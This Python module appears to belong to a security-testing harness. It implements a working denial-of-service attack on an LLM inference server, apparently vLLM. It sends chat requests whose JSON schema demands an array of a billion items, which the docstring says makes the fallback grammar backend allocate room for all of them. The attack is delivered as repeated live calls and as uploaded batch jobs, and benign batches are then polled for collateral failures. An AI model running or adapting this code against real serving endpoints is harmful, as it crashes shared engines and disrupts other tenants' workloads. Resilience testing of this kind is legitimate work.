"""Poison for an engine: schemas that it dies of, in live calls and in rows."""

from __future__ import annotations

import asyncio
import json

from attacks.target import Tally, Target, ask, say

CHAT = "/v1/chat/completions"
AT_ONCE, CALLS_MAX = 2, 40
ROWS, BATCHES = 4, 4
LOOK_S = 1.0
LOOKS_MAX = 180
BOUNDARY = "boundary-of-an-attack"
BENIGN_ROWS, TOKENS = 3_000, 48


def poison(model: str, content: str) -> dict:
    """A chat request whose schema asks for a list of a thousand million items.

    Without `items` it is not xgrammar that compiles it but vLLM's second choice, which makes room for all of them.
    """
    schema = {"type": "array", "minItems": 1_000_000_000}
    wanted = {"type": "json_schema", "json_schema": {"name": "list", "schema": schema, "strict": True}}
    return {
        "model": model,
        "messages": [{"role": "user", "content": content}],
        "max_tokens": 16,
        "response_format": wanted,
    }


async def poison_live(target: Target, tally: Tally) -> None:
    """Live calls, one after the other, each a little different."""

    async def caller(first: int) -> None:
        for number in range(first, CALLS_MAX, AT_ONCE):
            await ask(target, tally, "POST", CHAT, poison(target.model, f"list {number}"), key=target.tenant)
            await asyncio.sleep(LOOK_S)

    say("begun")
    await asyncio.gather(*[caller(number) for number in range(AT_ONCE)])


async def poison_rows(target: Target, tally: Tally) -> None:
    """Batches of four such rows each, one batch after the other."""
    say("begun")
    for number in range(BATCHES):
        bodies = [poison(target.model, f"rows {number} {row}") for row in range(ROWS)]
        await _batch(target, tally, bodies)


async def benign_rows(target: Target, tally: Tally) -> None:
    """A batch of good rows: the engine is killed from outside."""
    plain = {"model": target.model, "temperature": 0, "max_tokens": TOKENS, "min_tokens": TOKENS, "ignore_eos": True}
    bodies = [{**plain, "messages": [{"role": "user", "content": f"row {n} of mine"}]} for n in range(BENIGN_ROWS)]
    say("begun")
    await _batch(target, tally, bodies)


async def _batch(target: Target, tally: Tally, bodies: list[dict]) -> None:
    """Upload rows, run them, and wait for their end."""
    lines = [{"custom_id": str(n), "method": "POST", "url": CHAT, "body": body} for n, body in enumerate(bodies)]
    part = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{{}}"{{}}\r\n\r\n'
    head = part.format("purpose", "") + "batch\r\n" + part.format("file", '; filename="rows.jsonl"')
    data = head + "\n".join(json.dumps(line) for line in lines) + f"\n\r\n--{BOUNDARY}--\r\n"
    media, key, setup = f"multipart/form-data; boundary={BOUNDARY}", target.tenant, Tally()
    _, received = await ask(target, setup, "POST", "/v1/files", data.encode(), key=key, media=media)
    wanted = {"input_file_id": json.loads(received or b"{}").get("id"), "endpoint": CHAT, "completion_window": "24h"}
    status, received = await ask(target, tally, "POST", "/v1/batches", wanted, key=key)
    if status != "200":
        return
    batch = json.loads(received)
    for _ in range(LOOKS_MAX):
        await asyncio.sleep(LOOK_S)
        status, received = await ask(target, setup, "GET", f"/v1/batches/{batch['id']}", b"", key=key, media="")
        batch = json.loads(received) if status == "200" else batch
        if batch["status"] in ("completed", "failed", "expired", "cancelled"):
            break
    counts = batch.get("request_counts") or {}
    tally.add(f"batch {batch['status']}, {counts.get('failed', 0)} of {len(bodies)} rows failed")
